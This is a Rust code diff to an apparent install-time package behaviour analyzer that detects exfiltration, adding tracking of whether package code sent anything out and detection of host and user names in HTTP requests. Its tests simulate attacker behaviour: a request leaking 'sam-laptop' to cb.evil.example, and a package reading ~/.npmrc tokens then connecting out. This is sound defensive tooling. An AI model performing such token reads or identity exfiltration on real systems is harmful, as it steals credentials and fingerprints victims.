@@ -32,6 +32,11 @@ pub struct Context {
     pub project: Option<String>,
     /// Values planted in canary credentials; seeing one leave is exfiltration.
     pub canaries: Vec<String>,
+    /// The package under test (`name@version`): the package of the traced
+    /// command itself when it is not the package manager (the start
+    /// phase's `node -e "require('x')"`), and of a build whose directory
+    /// names no package (pip's `pip-req-build-*`).
+    pub package: Option<String>,
     /// What identifies the traced machine and user: its host name, the
     /// user's name. Sent out in a DNS name, it is a fingerprint of the
     /// victim. More are learnt from a recorded environment (`HOSTNAME`,
@@ -78,6 +83,10 @@ pub struct Analyzer<'r> {
     env_home: Option<String>,
     /// Host and user names from recorded environments.
     learnt_identity: Vec<String>,
+    /// Package code sent something off the machine in this phase: a
+    /// connection or datagram to an internet address, a DNS query, a
+    /// request a sink received.
+    sent_out: bool,
     /// With HOME unknown: the homes (`/root`, `/home/<user>`) the trace
     /// shows to be the traced user's: the command started or changed
     /// directory there, or something there was opened, run or found.
@@ -121,6 +130,7 @@ impl<'r> Analyzer<'r> {
             names: HashMap::new(),
             env_home: None,
             learnt_identity: Vec::new(),
+            sent_out: false,
             own_homes,
             bound: HashMap::new(),
             datagrams: HashMap::new(),
@@ -201,7 +211,11 @@ impl<'r> Analyzer<'r> {
                 // Whose package the new program works for: what its
                 // environment or directory says, else its parent's.
                 let cwd = self.model.get(pid).and_then(|p| p.cwd.clone()).or_else(|| self.ctx.cwd.clone());
-                let package = package_of(&env, cwd.as_deref()).filter(|_| !actor.is_package_manager);
+                let own_command = self.model.get(pid).is_none_or(|p| p.parent.is_none() && p.exe.is_none());
+                let in_build = cwd.as_deref().is_some_and(|c| c.contains("/pip-req-build-"));
+                let package = package_of(&env, cwd.as_deref())
+                    .or_else(|| (own_command || in_build).then(|| self.ctx.package.clone()).flatten())
+                    .filter(|_| !actor.is_package_manager);
                 // pip's build of a local or direct sdist (`pip-req-build-*`)
                 // names no package, but the directory is still its own.
                 let package_dir = if package.is_some() || cwd.as_deref().is_some_and(|c| c.contains("/pip-req-build-"))
@@ -243,7 +257,6 @@ impl<'r> Analyzer<'r> {
                 // The command the user (or pkgtrace, for a phase) asked to
                 // trace is not behaviour: the first program of a process no
                 // traced process started (and its PATH-search attempts).
-                let own_command = self.model.get(pid).is_none_or(|p| p.parent.is_none() && p.exe.is_none());
                 if !own_command {
                     self.check(&fact, ev);
                 }
@@ -450,9 +463,11 @@ impl<'r> Analyzer<'r> {
                 let mut fact = self.addr_fact(pid, "connect", "connect", addr);
                 fact.success = known(result);
                 let through = result.success() || result.errno.as_deref() == Some("EINPROGRESS");
-                if through && fact.ip.is_some_and(|ip| !ip.to_canonical().is_loopback()) {
+                let internet = fact.ip.is_some_and(|ip| !ip.to_canonical().is_loopback());
+                if through && internet {
                     self.model.task(pid).online = true;
                 }
+                self.sent_out |= internet && !fact.actor.is_package_manager;
                 fact.errno = result.errno.clone();
                 self.check(&fact, ev);
                 if !stream && addr.ip_port().is_some() {
@@ -507,6 +522,11 @@ impl<'r> Analyzer<'r> {
                 let text = String::from_utf8_lossy(data.bytes.as_slice()).into_owned();
                 let canaries = self.canaries_in(&text);
                 fact.canary = !canaries.is_empty();
+                // The request line and body, not the headers a client adds
+                // by itself (Host, User-Agent).
+                let sent = format!("{} {}", url.as_deref().unwrap_or_default(), body_of(&text));
+                fact.identity = protocol != "dns" && self.text_carries_identity(&sent);
+                self.sent_out |= !fact.actor.is_package_manager;
                 fact.payload = Some(text);
                 self.check(&fact, ev);
                 let (address, port) = addr.ip_port().map(|(ip, port)| (ip.to_string(), port)).unwrap_or_default();
@@ -637,6 +657,7 @@ impl<'r> Analyzer<'r> {
         };
         let mut fact = self.addr_fact(pid, "send", syscall, &dest);
         fact.success = known(result);
+        self.sent_out |= fact.ip.is_some_and(|ip| !ip.to_canonical().is_loopback()) && !fact.actor.is_package_manager;
         let text: String = data
             .iter()
             .map(|d| String::from_utf8_lossy(&d.bytes.as_slice()[..d.bytes.len().min(PAYLOAD_TEXT_MAX)]).into_owned())
@@ -726,6 +747,7 @@ impl<'r> Analyzer<'r> {
         fact.encoded_label = dns::looks_encoded(&q.name);
         fact.canary = self.has_canary(std::iter::once(q.name.as_str()));
         fact.identity = self.carries_identity(&q.name);
+        self.sent_out |= !fact.actor.is_package_manager;
         self.fill_addr(&mut fact, server);
         fact.host = Some(q.name.clone());
         fact.success = Some(true);
@@ -758,6 +780,21 @@ impl<'r> Analyzer<'r> {
             })
         });
         plain || crate::canary::contains_encoded(name, &ids)
+    }
+
+    /// Does text sent out (a URL, a request body) carry the machine's or
+    /// the user's name: as a token of its own (`h=sam-laptop`,
+    /// `"user":"sam"`), or encoded?
+    fn text_carries_identity(&self, text: &str) -> bool {
+        let ids: Vec<String> = self.identity().filter(|i| i.len() >= 3).map(|i| i.to_ascii_lowercase()).collect();
+        if ids.is_empty() {
+            return false;
+        }
+        let lower = text.to_ascii_lowercase();
+        let plain = lower
+            .split(|c: char| !(c.is_ascii_alphanumeric() || c == '-' || c == '_' || c == '.'))
+            .any(|token| ids.iter().any(|id| token == id || (id.len() >= 8 && token.contains(id.as_str()))));
+        plain || crate::canary::contains_encoded(text, &ids)
     }
 
     /// The identity values: given, and learnt from recorded environments.
@@ -1039,7 +1076,16 @@ impl<'r> Analyzer<'r> {
             run: None,
             output: None,
             sinks: None,
-            findings: self.findings.into_sorted(),
+            findings: {
+                let (pack, sent_out) = (self.pack, self.sent_out);
+                self.findings.into_sorted(|f| {
+                    let softer = pack.rules.iter().find(|r| r.id == f.rule).and_then(|r| r.severity_if_nothing_sent);
+                    if let Some(s) = softer.filter(|s| !sent_out && *s < f.severity) {
+                        f.severity = s;
+                        f.tags.push("nothing-sent".into());
+                    }
+                })
+            },
             behaviour: Behaviour {
                 files,
                 project_files: self.project_files,
@@ -1107,6 +1153,15 @@ fn package_of(env: &[String], cwd: Option<&str>) -> Option<String> {
     let dir = rest.split('/').nth(1)?;
     let (name, hash) = dir.rsplit_once('_')?;
     (hash.len() >= 8 && hash.bytes().all(|b| b.is_ascii_hexdigit())).then(|| name.to_string())
+}
+
+/// What follows an HTTP head (the body), or everything when there is no
+/// head.
+fn body_of(text: &str) -> &str {
+    match text.find("\r\n\r\n") {
+        Some(i) if text.starts_with(|c: char| c.is_ascii_uppercase()) => &text[i + 4..],
+        _ => text,
+    }
 }
 
 /// The home directory `path` is in: `/root` or `/home/<user>`.
@@ -1505,5 +1560,58 @@ mod dir_tests {
             r.behaviour.files.iter().filter(|f| f.probe).map(|f| (f.path.as_str(), f.failed)).collect();
         assert_eq!(probed, [("/home/u/.config/discord/Local Storage/leveldb", true)]);
         assert!(!r.behaviour.files.iter().any(|f| f.path.starts_with("/usr/lib")), "library lookups are not listed");
+    }
+
+    #[test]
+    fn identity_in_what_is_sent_over_http() {
+        let ctx =
+            Context { phase: "start".into(), identity: vec!["sam-laptop".into(), "sam".into()], ..Context::default() };
+        let pack = RulePack::embedded().unwrap();
+        let mut a = Analyzer::new(&pack, ctx);
+        let request = |seq: u64, url: &str, body: &str| Event {
+            seq,
+            pid: 0,
+            time_ns: None,
+            duration_ns: None,
+            origin: Origin::Live,
+            kind: EventKind::Request {
+                transport: "tcp".into(),
+                protocol: "https".into(),
+                addr: SockAddr::Inet { ip: "104.21.1.1".into(), port: 443 },
+                host: Some("cb.evil.example".into()),
+                method: Some("GET".into()),
+                url: Some(url.into()),
+                data: tracer::Payload {
+                    bytes: format!("GET / HTTP/1.1\r\nHost: sam-laptop\r\n\r\n{body}").into_bytes().into(),
+                    len: None,
+                    truncated: false,
+                },
+            },
+        };
+        a.event(&request(1, "https://cb.evil.example/cb?h=sam-laptop&u=sam", ""));
+        a.event(&request(2, "https://cdn.example/lib.js", ""));
+        a.event(&request(3, "https://cdn.example/sample", "{\"sampling\": 1}"));
+        let r = a.finish();
+        let hits: Vec<&str> =
+            r.findings.iter().filter(|f| f.rule == "http-carries-identity").map(|f| f.subject.as_str()).collect();
+        assert_eq!(hits, ["GET https://cb.evil.example/cb?h=sam-laptop&u=sam"]);
+    }
+
+    #[test]
+    fn a_token_read_that_goes_nowhere_is_medium() {
+        let read = [
+            r#"7 execve("/usr/bin/node", ["node", "-e", "require('x')"], 0x1 /* 1 var */) = 0"#,
+            "7 clone(child_stack=NULL, flags=SIGCHLD) = 8",
+            r#"8 execve("/usr/bin/node", ["node", "cli.js"], 0x1 /* 1 var */) = 0"#,
+            r#"8 openat(AT_FDCWD, "/home/u/.npmrc", O_RDONLY) = 3"#,
+        ];
+        let severity =
+            |r: &PhaseReport| r.findings.iter().find(|f| f.rule == "read-registry-token").map(|f| f.severity);
+        let quiet = install(&read);
+        assert_eq!(severity(&quiet), Some(report::Severity::Medium));
+        let mut sent = read.to_vec();
+        sent.push("8 socket(AF_INET, SOCK_STREAM, IPPROTO_TCP) = 4");
+        sent.push(r#"8 connect(4, {sa_family=AF_INET, sin_port=htons(443), sin_addr=inet_addr("203.0.113.9")}, 16) = -1 EINPROGRESS (Operation now in progress)"#);
+        assert_eq!(severity(&install(&sent)), Some(report::Severity::High));
     }
 }
